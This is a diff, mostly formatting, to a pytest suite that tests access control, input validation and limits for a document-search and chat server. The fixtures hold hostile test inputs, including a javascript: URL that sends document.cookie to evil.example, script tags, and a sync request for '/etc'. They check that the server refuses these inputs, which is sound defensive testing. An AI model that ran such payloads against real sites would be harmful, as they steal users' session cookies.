@@ -36,7 +36,8 @@ def world(tmp_path_factory):
     public, internal, it = base / "docs-public", base / "docs-internal", base / "docs-it"
     split_sample_docs(public, internal, it)
     (internal / "incident-codenames.md").write_text(
-        f"# Incident code names\n\nThe {INTERNAL_WORD} procedure is used when a payment processor is down.\n")
+        f"# Incident code names\n\nThe {INTERNAL_WORD} procedure is used when a payment processor is down.\n"
+    )
     (it / "vpn.txt").write_text("The office VPN uses WireGuard. Ask the IT desk for a profile.\n")
     store = KeyStore(base / "keys.sqlite")
     keys = {
@@ -51,8 +52,15 @@ def world(tmp_path_factory):
         for name in ("support", "it"):
             done = sync_collection(client, name, keys["admin"])
             assert done["state"] == "done", done["error"]
-        yield {"url": url, "client": client, "keys": keys, "base": base, "store": store, "log": base / "server.log",
-               "folders": (public, internal, it)}
+        yield {
+            "url": url,
+            "client": client,
+            "keys": keys,
+            "base": base,
+            "store": store,
+            "log": base / "server.log",
+            "folders": (public, internal, it),
+        }
 
 
 def auth(world, who: str) -> dict:
@@ -60,8 +68,7 @@ def auth(world, who: str) -> dict:
 
 
 def _document(world, key: str, who: str = "admin") -> httpx.Response:
-    return world["client"].get(f"/v1/collections/support/documents/{key}", headers=auth(world, who),
-                               params={"text": "true"})
+    return world["client"].get(f"/v1/collections/support/documents/{key}", headers=auth(world, who), params={"text": "true"})
 
 
 # Row 1: a public-only writer uploads a file named like an internal document.
@@ -69,10 +76,12 @@ def test_a_scoped_writer_cannot_replace_read_or_delete_an_internal_document_by_i
     c = world["client"]
     before = _document(world, "account-recovery.md").json()
     assert before["visibility"] == "internal"
-    files = {"file": ("account-recovery.md", b"# Account recovery\n\nEmail attacker@example.com for help.\n",
-                      "text/markdown")}
-    r = c.post("/v1/collections/support/documents", headers=auth(world, "public_write"), files=files,
-               data={"visibility": "public"})
+    files = {
+        "file": ("account-recovery.md", b"# Account recovery\n\nEmail attacker@example.com for help.\n", "text/markdown")
+    }
+    r = c.post(
+        "/v1/collections/support/documents", headers=auth(world, "public_write"), files=files, data={"visibility": "public"}
+    )
     assert r.status_code == 403, r.text
     # The refusal does not say why: not that the document exists, nor its visibility or version.
     assert "internal" not in r.text and "version" not in r.text and "exists" not in r.text
@@ -80,15 +89,22 @@ def test_a_scoped_writer_cannot_replace_read_or_delete_an_internal_document_by_i
     assert (after["version"], after["visibility"], after["text"]) == (before["version"], "internal", before["text"])
     for who in ("public_read", "public_write"):
         assert _document(world, "account-recovery.md", who).status_code == 404
-        assert c.get("/v1/collections/support/documents/account-recovery.md/history",
-                     headers=auth(world, who)).status_code == 404
-    assert c.delete("/v1/collections/support/documents/account-recovery.md",
-                    headers=auth(world, "public_write")).status_code == 404
+        assert (
+            c.get("/v1/collections/support/documents/account-recovery.md/history", headers=auth(world, who)).status_code
+            == 404
+        )
+    assert (
+        c.delete("/v1/collections/support/documents/account-recovery.md", headers=auth(world, "public_write")).status_code
+        == 404
+    )
     assert _document(world, "account-recovery.md").status_code == 200
     # The same writer may still add a public document of a new name, and update a public one.
-    ok = c.post("/v1/collections/support/documents", headers=auth(world, "public_write"),
-                files={"file": ("status-page.md", b"# Status page\n\nSee status.example.com.\n", "text/markdown")},
-                data={"visibility": "public"})
+    ok = c.post(
+        "/v1/collections/support/documents",
+        headers=auth(world, "public_write"),
+        files={"file": ("status-page.md", b"# Status page\n\nSee status.example.com.\n", "text/markdown")},
+        data={"visibility": "public"},
+    )
     assert ok.status_code == 201 and ok.json()["status"] == "added", ok.text
     assert _document(world, "status-page.md", "public_read").status_code == 200
 
@@ -97,19 +113,34 @@ def test_a_scoped_writer_cannot_replace_read_or_delete_an_internal_document_by_i
 def test_an_upload_refused_for_any_reason_leaves_the_stored_original_as_it_was(world):
     c, h = world["client"], auth(world, "writer")
     original = b"# Runbook\n\nRestart the billing worker with the blue button.\n"
-    assert c.post("/v1/collections/support/documents", headers=h, files={"file": ("runbook.md", original, "text/markdown")}
-                  ).status_code == 201
+    assert (
+        c.post(
+            "/v1/collections/support/documents", headers=h, files={"file": ("runbook.md", original, "text/markdown")}
+        ).status_code
+        == 201
+    )
     stored = world["base"] / "kbs" / "support" / "uploads" / "runbook.md"
     assert stored.read_bytes() == original
     version = _document(world, "runbook.md").json()["version"]
-    bad_tag = c.post("/v1/collections/support/documents", headers=h, data={"tags": "ok, <script>"},
-                     files={"file": ("runbook.md", b"# Runbook\n\nReplaced.\n", "text/markdown")})
+    bad_tag = c.post(
+        "/v1/collections/support/documents",
+        headers=h,
+        data={"tags": "ok, <script>"},
+        files={"file": ("runbook.md", b"# Runbook\n\nReplaced.\n", "text/markdown")},
+    )
     assert bad_tag.status_code == 400 and "tag" in bad_tag.json()["detail"]
-    bad_label = c.post("/v1/collections/support/documents", headers=h, data={"visibility": "Top Secret!"},
-                       files={"file": ("runbook.md", b"# Runbook\n\nReplaced.\n", "text/markdown")})
+    bad_label = c.post(
+        "/v1/collections/support/documents",
+        headers=h,
+        data={"visibility": "Top Secret!"},
+        files={"file": ("runbook.md", b"# Runbook\n\nReplaced.\n", "text/markdown")},
+    )
     assert bad_label.status_code == 400 and "visibility" in bad_label.json()["detail"]
-    unparsable = c.post("/v1/collections/support/documents", headers=h,
-                        files={"file": ("runbook.md", b"\x00\x01\x02" * 10 + b"\xff" * 100, "text/markdown")})
+    unparsable = c.post(
+        "/v1/collections/support/documents",
+        headers=h,
+        files={"file": ("runbook.md", b"\x00\x01\x02" * 10 + b"\xff" * 100, "text/markdown")},
+    )
     assert unparsable.status_code in (201, 422)  # binary noise may still decode; either way the pair below holds
     if unparsable.status_code == 422:
         assert stored.read_bytes() == original and _document(world, "runbook.md").json()["version"] == version
@@ -125,19 +156,35 @@ def test_a_sync_job_is_visible_only_to_the_key_that_started_it_and_to_admins(wor
         job = c.post("/v1/collections/support/sync", headers=auth(world, "writer"), json={"dry_run": True})
         assert job.status_code == 202, job.text
         job_id = job.json()["id"]
-        other = c.post("/v1/collections/support/sync", headers=auth(world, "public_write"),
-                       json={"sources": ["docs-public"], "dry_run": True})
+        other = c.post(
+            "/v1/collections/support/sync",
+            headers=auth(world, "public_write"),
+            json={"sources": ["docs-public"], "dry_run": True},
+        )
         if other.status_code == 409:
             assert job_id not in other.text and "already running" in other.json()["detail"]
             break
         assert other.status_code == 202, other.text  # the first job had already ended: try again
-        wait_for(lambda: c.get(f"/v1/collections/support/sync/{other.json()['id']}",
-                               headers=auth(world, "public_write")).json()["state"] in ("done", "failed"), 60, "a job")
+        wait_for(
+            lambda: (
+                c.get(f"/v1/collections/support/sync/{other.json()['id']}", headers=auth(world, "public_write")).json()[
+                    "state"
+                ]
+                in ("done", "failed")
+            ),
+            60,
+            "a job",
+        )
     else:
         pytest.fail("never caught a sync job running")
     assert c.get(f"/v1/collections/support/sync/{job_id}", headers=auth(world, "public_write")).status_code == 404
-    done = wait_for(lambda: (lambda j: j if j["state"] in ("done", "failed") else None)(
-        c.get(f"/v1/collections/support/sync/{job_id}", headers=auth(world, "writer")).json()), 120, "the job")
+    done = wait_for(
+        lambda: (lambda j: j if j["state"] in ("done", "failed") else None)(
+            c.get(f"/v1/collections/support/sync/{job_id}", headers=auth(world, "writer")).json()
+        ),
+        120,
+        "the job",
+    )
     assert done["state"] == "done"
     assert c.get(f"/v1/collections/support/sync/{job_id}", headers=auth(world, "admin")).status_code == 200
     text = json.dumps(done)
@@ -148,12 +195,18 @@ def test_a_sync_job_is_visible_only_to_the_key_that_started_it_and_to_admins(wor
 def test_a_huge_chat_message_is_refused_quickly_with_the_field_named(world):
     c = world["client"]
     started = time.monotonic()
-    r = c.post("/v1/chat/completions", headers=auth(world, "public_read"),
-               json={"model": "support", "messages": [{"role": "user", "content": "refund " * 2_000}]})
+    r = c.post(
+        "/v1/chat/completions",
+        headers=auth(world, "public_read"),
+        json={"model": "support", "messages": [{"role": "user", "content": "refund " * 2_000}]},
+    )
     assert r.status_code == 422 and "messages[0].content" in r.json()["detail"] and "2,000" in r.json()["detail"]
     # 200,000 characters are over this server's 16 KB body limit before any parsing.
-    huge = c.post("/v1/chat/completions", headers=auth(world, "public_read"),
-                  json={"model": "support", "messages": [{"role": "user", "content": "x" * 200_000}]})
+    huge = c.post(
+        "/v1/chat/completions",
+        headers=auth(world, "public_read"),
+        json={"model": "support", "messages": [{"role": "user", "content": "x" * 200_000}]},
+    )
     assert huge.status_code == 413
     assert time.monotonic() - started < 5
 
@@ -172,8 +225,9 @@ def test_diagnostics_of_a_scoped_key_do_not_tell_an_internal_word_from_a_made_up
     # ... and tells a public key nothing.
     internal, made_up = diagnostics("public_read", INTERNAL_WORD), diagnostics("public_read", MADE_UP_WORD)
     assert internal == made_up and set(internal) <= {"beta", "candidates"}
-    hits = c.post("/v1/collections/support/search", headers=auth(world, "public_read"),
-                  json={"query": INTERNAL_WORD, "k": 10}).json()["hits"]
+    hits = c.post(
+        "/v1/collections/support/search", headers=auth(world, "public_read"), json={"query": INTERNAL_WORD, "k": 10}
+    ).json()["hits"]
     assert all(h["visibility"] == "public" for h in hits)
     # Scores (BM25's word statistics and the character gate count every chunk) are omitted for a scoped key,
     # and so is an answer's evidence figure; a key that sees everything gets both.
@@ -213,8 +267,10 @@ def _raw(url: str, head: str, body_part: bytes, timeout: float = 10.0) -> bytes:
 # Row 7: no key, a 20 MB body: answered 401 from the headers alone; body limits by route.
 @pytest.mark.parametrize("path", ["/v1/collections/support/documents", "/v1/collections/support/search"])
 def test_an_unauthenticated_20_mb_body_is_refused_before_it_is_read(world, path):
-    head = (f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=b\r\n"
-            f"Content-Length: {20 * 2**20}\r\n\r\n")
+    head = (
+        f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=b\r\n"
+        f"Content-Length: {20 * 2**20}\r\n\r\n"
+    )
     started = time.monotonic()
     reply = _raw(world["url"], head, b"--b\r\n" + b"x" * 65536)  # 64 KB of the declared 20 MB, then we wait
     assert reply.startswith(b"HTTP/1.1 401"), reply[:200]
@@ -226,26 +282,39 @@ def test_the_body_limit_is_the_routes_not_the_content_types(world):
     h = {**auth(world, "public_read"), "content-type": "multipart/form-data; boundary=b"}
     r = c.post("/v1/collections/support/search", headers=h, content=b"--b\r\n" + b"x" * (64 * 1024))
     assert r.status_code == 413 and "16 KB" in r.json()["detail"]
-    big = c.post("/v1/collections/support/documents", headers=auth(world, "writer"),
-                 files={"file": ("big.txt", b"a" * (2 * 2**20), "text/plain")})
+    big = c.post(
+        "/v1/collections/support/documents",
+        headers=auth(world, "writer"),
+        files={"file": ("big.txt", b"a" * (2 * 2**20), "text/plain")},
+    )
     assert big.status_code == 413
 
 
 # Feedback is limited per key; over a limit: 429 with Retry-After.
 def test_feedback_is_limited_per_key_with_retry_after(world):
     c = world["client"]
-    hit = c.post("/v1/collections/support/search", headers=auth(world, "public_read"),
-                 json={"query": "support hours", "k": 1}).json()["hits"][0]
+    hit = c.post(
+        "/v1/collections/support/search", headers=auth(world, "public_read"), json={"query": "support hours", "k": 1}
+    ).json()["hits"][0]
     codes = []
     for i in range(7):
-        r = c.post("/v1/collections/support/feedback", headers=auth(world, "public_read"),
-                   json={"question": f"support hours {i}?", "chunk_id": hit["chunk_id"], "helpful": True})
+        r = c.post(
+            "/v1/collections/support/feedback",
+            headers=auth(world, "public_read"),
+            json={"question": f"support hours {i}?", "chunk_id": hit["chunk_id"], "helpful": True},
+        )
         codes.append(r.status_code)
     assert codes[:5] == [201] * 5 and codes[5:] == [429, 429]
     assert int(r.headers["retry-after"]) >= 1 and "rate limit" in r.json()["detail"]
     # Another key is not held back by it.
-    assert c.post("/v1/collections/support/feedback", headers=auth(world, "admin"),
-                  json={"question": "support hours?", "chunk_id": hit["chunk_id"], "helpful": True}).status_code == 201
+    assert (
+        c.post(
+            "/v1/collections/support/feedback",
+            headers=auth(world, "admin"),
+            json={"question": "support hours?", "chunk_id": hit["chunk_id"], "helpful": True},
+        ).status_code
+        == 201
+    )
 
 
 # Metrics: an admin scoped to one collection sees only that collection's figures.
@@ -263,8 +332,11 @@ def test_an_expired_key_is_refused_and_key_and_kb_files_are_owner_only(world):
     c = world["client"]
     token, _ = world["store"].create("short-lived", "read", ["support"], ["public"], expires_at=time.time() + 3)
     assert c.get("/v1/collections", headers={"Authorization": f"Bearer {token}"}).status_code == 200
-    wait_for(lambda: c.get("/v1/collections", headers={"Authorization": f"Bearer {token}"}).status_code == 401, 30,
-             "the expired key to be refused")
+    wait_for(
+        lambda: c.get("/v1/collections", headers={"Authorization": f"Bearer {token}"}).status_code == 401,
+        30,
+        "the expired key to be refused",
+    )
     used = {k.name: k.last_used_at for k in world["store"].list()}
     assert used["short-lived"] is not None and used["ops"] is not None
     assert (world["base"] / "keys.sqlite").stat().st_mode & 0o077 == 0
@@ -277,8 +349,11 @@ def test_no_reply_names_a_server_path(world):
     c = world["client"]
     base = str(world["base"])
     replies = [
-        c.post("/v1/collections/support/documents", headers=auth(world, "writer"),
-               files={"file": ("notes.exe", b"MZ", "application/x")}),
+        c.post(
+            "/v1/collections/support/documents",
+            headers=auth(world, "writer"),
+            files={"file": ("notes.exe", b"MZ", "application/x")},
+        ),
         c.post("/v1/collections/support/sync", headers=auth(world, "writer"), json={"sources": ["/etc"]}),
         c.get("/v1/collections/support/documents", headers=auth(world, "admin")),
         c.get("/v1/collections/support/documents/billing-faq.html/history", headers=auth(world, "admin")),
@@ -297,8 +372,9 @@ def test_made_up_methods_fold_into_one_metrics_label_with_either_parser(world):
             method = "".join(rng.choice(string.ascii_uppercase) for _ in range(8))
             assert client.request(method, "/v1/collections").status_code in (400, 401, 405)
         text = client.get("/v1/metrics", headers=auth(world, "admin")).text
-        methods = {line.split('method="')[1].split('"')[0] for line in text.splitlines()
-                   if line.startswith("hkb_requests_total{")}
+        methods = {
+            line.split('method="')[1].split('"')[0] for line in text.splitlines() if line.startswith("hkb_requests_total{")
+        }
         assert methods <= {"GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "other"} and "other" in methods
         assert len(text) < 64 * 1024
         # The same server's rate limit: 5 a minute per key, then 429 with Retry-After; other keys go on.
@@ -315,8 +391,16 @@ def test_export_urls_other_than_http_are_dropped(world, tmp_path):
     assert web_url("javascript:alert(document.cookie)") == "" and web_url("data:text/html,<script>") == ""
     assert web_url(" https://help.example.com/hc/articles/1 ") == "https://help.example.com/hc/articles/1"
     c = world["client"]
-    export = {"articles": [{"id": 1, "title": "Phishing", "body": "<p>Click the link to reset your password.</p>",
-                            "html_url": "javascript:fetch('//evil.example/'+document.cookie)"}]}
+    export = {
+        "articles": [
+            {
+                "id": 1,
+                "title": "Phishing",
+                "body": "<p>Click the link to reset your password.</p>",
+                "html_url": "javascript:fetch('//evil.example/'+document.cookie)",
+            }
+        ]
+    }
     public = world["folders"][0]
     (public / "help-centre.json").write_text(json.dumps(export))
     try:
